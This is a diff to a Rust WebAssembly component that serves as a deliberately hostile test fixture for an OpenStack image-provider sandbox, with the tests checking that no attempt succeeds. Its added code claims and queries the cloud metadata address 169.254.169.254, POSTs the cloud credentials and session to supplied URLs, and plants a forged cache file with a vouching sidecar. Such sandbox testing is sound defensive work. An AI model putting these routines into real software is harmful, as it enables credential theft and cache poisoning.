@@ -2,10 +2,10 @@
 //! `openstack:image/lifecycle` as the real guest, but misbehaves as the image spec's `name`
 //! asks (the behaviour is the name's last part, e.g. `e2e-sandbox-1a2b3c4d-read-passwd`).
 //!
-//! Parameters come from the spec's `properties` (`url`, `addr`). Attempts report what
-//! happened in the returned error; anything that unexpectedly worked is marked `LEAKED:`,
-//! which the tests assert never appears. Images with no known behaviour are benign, and
-//! `read` answers from a fake cloud that holds exactly the ids starting with [`FAKE_CLOUD`].
+//! Parameters come from the spec's `properties` (`url`, `addr`, `urls`, `plant_*`). Attempts
+//! report what happened in the returned error; anything that unexpectedly worked is marked
+//! `LEAKED:`, which the tests assert never appears. Images with no known behaviour are benign,
+//! and `read` answers from a fake cloud that holds exactly the ids starting with [`FAKE_CLOUD`].
 
 wit_bindgen::generate!({
     world: "lifecycle-provider",
@@ -17,7 +17,7 @@ use std::path::{Path, PathBuf};
 
 use exports::openstack::image::lifecycle::Guest;
 use openstack::image::types::{
-    Cloud, Endpoint, Error, FieldError, ImageQuery, ImageSpec, ImageState, Plan, Session,
+    Cloud, Credentials, Endpoint, Error, FieldError, ImageQuery, ImageSpec, ImageState, Plan, Session,
 };
 use openstack_image_documents::{ImageDoc, SpecDoc, convert_records, fixtures};
 
@@ -32,21 +32,30 @@ openstack_image_documents::image_records!(convert_records, openstack::image::typ
 
 /// The cloud metadata service.
 const METADATA_URL: &str = "http://169.254.169.254/latest/meta-data/";
+/// The metadata service, as an image endpoint `authenticate` claims.
+const METADATA_ENDPOINT: &str = "http://169.254.169.254";
+/// A file, in any directory the host opened for the instance, listing (one a line) the image
+/// endpoints `authenticate` claims besides the metadata service: it gets no spec to take
+/// them from.
+const CLAIMED_ENDPOINTS_FILE: &str = "claimed-endpoints";
 
 struct Hostile;
 
 impl Guest for Hostile {
-    /// Claims the metadata service as the cloud's image endpoint (a host must not let a
-    /// component's word open a blocked address).
+    /// Claims the metadata service and the [`CLAIMED_ENDPOINTS_FILE`] endpoints as the
+    /// cloud's image endpoints (a host must not let a component's word open a host).
     fn authenticate(_cloud: Cloud) -> Result<Session, Error> {
         Ok(Session {
             token: "hostile".into(),
             expires_at: Some("2999-01-01T00:00:00Z".into()),
-            image_endpoints: vec![Endpoint {
-                url: "http://169.254.169.254".into(),
-                region: None,
-                interface: "public".into(),
-            }],
+            image_endpoints: claimed_endpoints()
+                .into_iter()
+                .map(|url| Endpoint {
+                    url,
+                    region: None,
+                    interface: "public".into(),
+                })
+                .collect(),
         })
     }
 
@@ -64,6 +73,7 @@ impl Guest for Hostile {
             "sleep-forever" => sleep_forever(),
             "flood-output" => flood_output(),
             "huge-error" => return Err(huge_error()),
+            "plant-cache" => plant_cache(&spec),
             _ => return Ok(spec),
         };
         Err(invalid(report))
@@ -76,7 +86,7 @@ impl Guest for Hostile {
         })
     }
 
-    fn create(_cloud: Cloud, spec: ImageSpec) -> Result<ImageState, Error> {
+    fn create(cloud: Cloud, spec: ImageSpec) -> Result<ImageState, Error> {
         let requested = spec.image_id.clone().unwrap_or_default();
         let mut image = fake_image(&requested, spec);
         match behaviour(&image.spec) {
@@ -89,11 +99,13 @@ impl Guest for Hostile {
                 image.metadata = (0..4).map(|i| (format!("k{i}"), huge.clone())).collect();
             }
             "claimed-endpoint" => {
-                return Err(invalid(match http_get(METADATA_URL) {
-                    Ok(body) => format!("GET {METADATA_URL}: LEAKED: {body}"),
-                    Err(e) => format!("GET {METADATA_URL}: {e}"),
-                }));
+                let urls: Vec<String> = claimed_endpoints()
+                    .iter()
+                    .map(|endpoint| format!("{endpoint}/v2/images"))
+                    .collect();
+                return Err(invalid(try_http(&urls, None)));
             }
+            "forged-session" => return Err(invalid(forged_session(&cloud, &image.spec))),
             other => return Err(invalid(format!("create: no such behaviour '{other}'"))),
         }
         Ok(image)
@@ -157,6 +169,8 @@ fn behaviour(spec: &ImageSpec) -> &str {
         "create-bad-status",
         "create-huge-strings",
         "claimed-endpoint",
+        "forged-session",
+        "plant-cache",
     ];
     let name = spec.name.as_deref().unwrap_or("");
     KNOWN
@@ -164,6 +178,14 @@ fn behaviour(spec: &ImageSpec) -> &str {
         .find(|b| name.ends_with(*b))
         .copied()
         .unwrap_or("benign")
+}
+
+/// The spec's property `key`.
+fn property<'a>(spec: &'a ImageSpec, key: &str) -> Option<&'a str> {
+    spec.properties
+        .iter()
+        .find(|(k, _)| k == key)
+        .map(|(_, v)| v.as_str())
 }
 
 fn invalid(message: String) -> Error {
@@ -292,41 +314,62 @@ fn symlink_escape(spec: &ImageSpec) -> String {
 }
 
 fn http_denied(spec: &ImageSpec) -> String {
-    let property = |key: &str| {
-        spec.properties
-            .iter()
-            .find(|(k, _)| k == key)
-            .map(|(_, v)| v.clone())
-    };
-    let mut urls = vec![property("url").unwrap_or_else(|| DENIED_URL.into())];
-    urls.push(METADATA_URL.into());
+    let urls = [
+        property(spec, "url").unwrap_or(DENIED_URL).to_string(),
+        METADATA_URL.into(),
+    ];
+    try_http(&urls, None)
+}
+
+/// Sends `urls` a GET (or a POST of `body`); any answer is a leak.
+fn try_http(urls: &[String], body: Option<&[u8]>) -> String {
+    let method = if body.is_some() { "POST" } else { "GET" };
     urls.iter()
-        .map(|url| match http_get(url) {
-            Ok(body) => format!("GET {url}: LEAKED: {body}"),
-            Err(e) => format!("GET {url}: {e}"),
+        .map(|url| match http_send(url, body) {
+            Ok(answer) => format!("{method} {url}: LEAKED: {answer}"),
+            Err(e) => format!("{method} {url}: {e}"),
         })
         .collect::<Vec<_>>()
         .join("; ")
 }
 
-/// A GET through wasi:http; the answer's status and the start of its body.
-fn http_get(url: &str) -> Result<String, String> {
+/// A GET (or a POST of `body`) through wasi:http; the answer's status and the start of its body.
+fn http_send(url: &str, body: Option<&[u8]>) -> Result<String, String> {
     use wasi::http::outgoing_handler;
-    use wasi::http::types::{Fields, OutgoingRequest, Scheme};
+    use wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
 
     let (scheme, rest) = url.split_once("://").ok_or("not a URL")?;
     let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
     let request = OutgoingRequest::new(Fields::new());
     request
-        .set_scheme(Some(&if scheme == "https" {
-            Scheme::Https
+        .set_method(if body.is_some() {
+            &Method::Post
         } else {
-            Scheme::Http
-        }))
+            &Method::Get
+        })
+        .and_then(|()| {
+            request.set_scheme(Some(&if scheme == "https" {
+                Scheme::Https
+            } else {
+                Scheme::Http
+            }))
+        })
         .and_then(|()| request.set_authority(Some(authority)))
         .and_then(|()| request.set_path_with_query(Some(if path.is_empty() { "/" } else { path })))
         .map_err(|()| "the runtime rejected the request line".to_string())?;
+    let outgoing = request
+        .body()
+        .map_err(|()| "the runtime gave no request body".to_string())?;
     let future = outgoing_handler::handle(request, None).map_err(|e| format!("{e:?}"))?;
+    // A refused request shows in its response; a failed write would say less.
+    if let (Some(bytes), Ok(stream)) = (body, outgoing.write()) {
+        for chunk in bytes.chunks(4096) {
+            if stream.blocking_write_and_flush(chunk).is_err() {
+                break;
+            }
+        }
+    }
+    let _ = OutgoingBody::finish(outgoing, None);
     let response = loop {
         if let Some(result) = future.get() {
             break result;
@@ -344,12 +387,72 @@ fn http_get(url: &str) -> Result<String, String> {
     Ok(format!("HTTP {status}: {}", String::from_utf8_lossy(&chunk)))
 }
 
+/// The image endpoints `authenticate` claims: the metadata service, and those listed in a
+/// [`CLAIMED_ENDPOINTS_FILE`] of any directory the host opened.
+fn claimed_endpoints() -> Vec<String> {
+    let mut endpoints = vec![METADATA_ENDPOINT.to_string()];
+    for (_, dir) in wasi::filesystem::preopens::get_directories() {
+        if let Ok(text) = std::fs::read_to_string(Path::new(&dir).join(CLAIMED_ENDPOINTS_FILE)) {
+            endpoints.extend(
+                text.lines()
+                    .map(str::trim)
+                    .filter(|l| !l.is_empty())
+                    .map(str::to_string),
+            );
+        }
+    }
+    endpoints
+}
+
+/// POSTs everything the host gave it about the cloud's access to the spec's `urls` (comma
+/// separated), and says what that was: a host that keeps the secrets gives a session and
+/// session-only credentials.
+fn forged_session(cloud: &Cloud, spec: &ImageSpec) -> String {
+    let given = format!(
+        "credentials: {:?}\nsession: {:?}",
+        cloud.credentials, cloud.session
+    );
+    let urls: Vec<String> = property(spec, "urls")
+        .unwrap_or_default()
+        .split(',')
+        .map(str::trim)
+        .filter(|url| !url.is_empty())
+        .map(str::to_string)
+        .collect();
+    let credentials = match &cloud.credentials {
+        Credentials::SessionOnly => "credentials: session-only".to_string(),
+        other => format!("credentials: LEAKED: {other:?}"),
+    };
+    let session = if cloud.session.is_some() {
+        "session: given"
+    } else {
+        "session: none"
+    };
+    [
+        try_http(&urls, Some(given.as_bytes())),
+        credentials,
+        session.into(),
+    ]
+    .join("; ")
+}
+
+/// Writes the spec's `plant_data` at `plant_path` and `plant_sidecar` beside it (`.json`): a
+/// download cache entry, and the record vouching for it, for another component to find.
+fn plant_cache(spec: &ImageSpec) -> String {
+    let data = property(spec, "plant_path").unwrap_or("/nonexistent/planted.img");
+    let write = |file: &str, key: &str| match std::fs::write(file, property(spec, key).unwrap_or_default()) {
+        Ok(()) => format!("plant {file}: written"),
+        Err(e) => format!("plant {file}: {e}"),
+    };
+    [
+        write(data, "plant_data"),
+        write(&format!("{data}.json"), "plant_sidecar"),
+    ]
+    .join("; ")
+}
+
 fn raw_socket(spec: &ImageSpec) -> String {
-    let addr = spec
-        .properties
-        .iter()
-        .find(|(k, _)| k == "addr")
-        .map_or("127.0.0.1:80", |(_, v)| v.as_str());
+    let addr = property(spec, "addr").unwrap_or("127.0.0.1:80");
     let connect = match std::net::TcpStream::connect(addr) {
         Ok(mut stream) => {
             let _ = stream.write_all(b"GET / HTTP/1.0\r\n\r\n");
